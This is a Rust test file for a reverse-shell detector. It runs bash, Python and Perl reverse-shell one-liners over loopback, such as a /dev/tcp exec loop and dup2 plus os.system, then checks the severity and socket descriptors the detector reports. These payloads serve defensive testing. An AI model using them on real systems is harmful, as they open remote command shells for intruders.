//! Attacks with nothing to see at exec: the program moves its own descriptors afterwards, or gives the socket to one
//! command after another. The rest of this group is in `attacks/lineage.rs` and `attacks/swept.rs`.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use common::attacker::Listener;
use common::daemon::Daemon;
use common::finding::Finding;
use common::mode::mode;
use common::notes::note;
use common::relayed::{ends, is_on, prove_popen, wait_or_show};
use common::victim::Victim;
use common::wait_at_most;

/// Starts a loop that runs each line it gets, sends it two, and proves one finding with both.
fn prove_loop(program: &str, option: &str, text: &str, expected: (u64, &str, &[u64])) -> Finding {
    let attacker = Listener::tcp();
    let port = attacker.port();
    let victim = Victim::start(program, &[option, &text.replace("PORT", &port.to_string())]);
    let mut session = attacker.accept();
    let lines = [("/usr/bin/id -u", "0\n"), ("/bin/uname -s", "Linux\n")];
    let ran = |record: &Finding, line: &str| {
        let words: Vec<&str> = line.split(' ').collect();
        record.ran(&words)
            || record.ran(&["sh", "-c", line])
            || record.ran(&["sh", "-c", &format!("{line}\n")])
    };
    let both = |record: &Finding| is_on(record, &[port]) && lines.iter().all(|(line, _)| ran(record, line));
    // Where nobody waits, the arguments of commands that end at once may be unread: they are sent again.
    let times = if mode() == "hold" { 1 } else { 8 };
    for _ in 0..times {
        for (line, answer) in lines {
            session.send(&format!("{line}\n"));
            session.hear(answer);
        }
        let seconds = std::time::Duration::from_secs(3);
        if wait_at_most(seconds, || Daemon::shared().records().into_iter().rfind(&both)).is_some() {
            break;
        }
    }
    let found = wait_or_show(Daemon::shared(), &[port], "both commands", both);
    note(Daemon::shared(), &found);
    assert_eq!((found.row(), found.severity()), (expected.0, expected.1), "{}", found.brief());
    assert_eq!(found.numbers("Socket_Fds"), expected.2, "{}", found.brief());
    drop(session);
    ends(Daemon::shared(), victim, &[port], &found, 1);
    found
}

#[test]
fn bash_moves_its_own_descriptors() {
    require!("bash");
    Daemon::shared();
    let text = "exec </dev/tcp/127.0.0.1/PORT >&0 2>&0; while read -r l; do $l; done";
    prove_loop("/bin/bash", "-c", text, (1, "HIGH", &[0, 1, 2]));
}

#[test]
fn bash_line_loop() {
    require!("bash");
    Daemon::shared();
    let text = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do $l </dev/null >&5 2>&5; done";
    prove_loop("/bin/bash", "-c", text, (3, "MEDIUM", &[1, 2]));
}

/// cat has the socket on its stdin; the commands have its pipe there, and the socket as their output.
#[test]
fn bash_cat_loop() {
    require!("bash");
    Daemon::shared();
    let text = "exec 5<>/dev/tcp/127.0.0.1/PORT; cat <&5 | while read -r l; do $l 2>&5 >&5; done";
    prove_loop("/bin/bash", "-c", text, (3, "MEDIUM", &[1, 2]));
}

/// bash keeps the answer and writes it to the socket by itself. What a shell does for a pipeline looks the same for a
/// moment: here it waits for what the command prints.
#[test]
fn bash_substitution_loop() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port();
    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do o=$($l 2>&1); echo \"$o\" >&5; done";
    let victim = Victim::start("/bin/bash", &["-c", &line.replace("PORT", &port.to_string())]);
    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, port, "bash");
    assert_eq!(found.severity(), "LOW", "{}", found.brief());
}

/// The same shell with pipelines that it only starts: what they print goes to a file.
#[test]
fn bash_pipelines_beside_a_socket_are_no_finding() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port();
    let line = "exec 5<>/dev/tcp/127.0.0.1/PORT; while read -r l <&5; do \
        id -u | cat > /dev/null; uname -s | cat | cat > /dev/null; hostname | grep . > /dev/null; echo did >&5; done";
    let victim = Victim::start("/bin/bash", &["-c", &line.replace("PORT", &port.to_string())]);
    let mut session = attacker.accept();
    for _ in 0..10 {
        session.send("go\n");
        session.hear("did\n");
    }
    drop(session);
    drop(victim);
    Daemon::shared().judged();
    let found: Vec<_> =
        Daemon::shared().records().into_iter().filter(|record| is_on(record, &[port])).collect();
    assert!(found.is_empty(), "{}", found[0].brief());
}

#[test]
fn python_dup2_and_system() {
    require!("/usr/bin/python3");
    Daemon::shared();
    let text = "import socket,os,sys\n\
        s=socket.create_connection(('127.0.0.1',PORT))\n\
        [os.dup2(s.fileno(),fd) for fd in (0,1,2)]\n\
        while True:\n\
        \x20l=s.recv(200)\n\
        \x20if not l: break\n\
        \x20os.system(l.decode().strip())";
    prove_loop("/usr/bin/python3", "-c", text, (1, "HIGH", &[0, 1, 2]));
}

#[test]
fn perl_fdopen_and_system() {
    require!("perl");
    Daemon::shared();
    let text = "use IO::Socket; $c=IO::Socket::INET->new('127.0.0.1:PORT') or die; \
        STDIN->fdopen($c,'r'); $~->fdopen($c,'w'); while(<STDIN>){chomp; system $_}";
    prove_loop("perl", "-e", text, (1, "HIGH", &[0, 1]));
}
